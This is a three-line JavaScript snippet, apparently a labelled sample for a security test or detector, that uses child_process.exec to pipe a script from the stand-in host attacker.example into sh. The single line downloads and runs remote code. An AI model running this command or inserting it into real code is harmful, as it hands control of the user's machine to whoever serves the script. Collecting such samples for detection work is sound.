// Malicious: curl | sh through child_process.exec.
const { exec } = require('child_process');
exec('curl -fsSL http://attacker.example/i.sh | sh');
